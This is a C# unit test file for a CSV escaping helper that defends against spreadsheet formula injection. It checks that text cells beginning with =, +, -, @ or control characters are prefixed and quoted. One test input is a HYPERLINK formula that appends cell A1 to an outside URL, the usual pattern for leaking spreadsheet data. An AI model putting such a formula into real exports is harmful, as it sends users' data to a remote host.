using Query.Api;
using Query.Scenarios;

namespace Query.Tests;

/// <summary>A spreadsheet computes nothing of what others have named.</summary>
public class CsvTests
{
    [Theory]
    [InlineData("=HYPERLINK(\"http://x/\"&A1)", "\"'=HYPERLINK(\"\"http://x/\"\"&A1)\"")]
    [InlineData("+1", "'+1")]
    [InlineData("-1+2", "'-1+2")]
    [InlineData("@SUM(A1)", "'@SUM(A1)")]
    [InlineData("\t=1", "\"'\t=1\"")]
    [InlineData("\r=1", "\"'\r=1\"")]
    [InlineData("\n=1", "\"'\n=1\"")]
    [InlineData("\uff1d1", "'\uff1d1")]
    [InlineData("a,b", "\"a,b\"")]
    [InlineData("a;=1", "\"a;=1\"")]
    [InlineData("melt-pressure", "melt-pressure")]
    [InlineData("1/min", "1/min")]
    [InlineData("", "")]
    [InlineData(null, "")]
    public void A_text_stays_a_text(string? text, string cell) => Assert.Equal(cell, Csv.Text(text));

    [Fact]
    public void A_number_stays_a_number_beside_texts_that_look_like_formulas() => Assert.Equal(
        "signal,'=1+1,'@x,'-case,'+p5,-60,-0.5,-1E-09\r\n",
        ResultCsv.Line(new("signal", "=1+1", "@x", "-case", "+p5", -60, -0.5, -1e-9)));
}
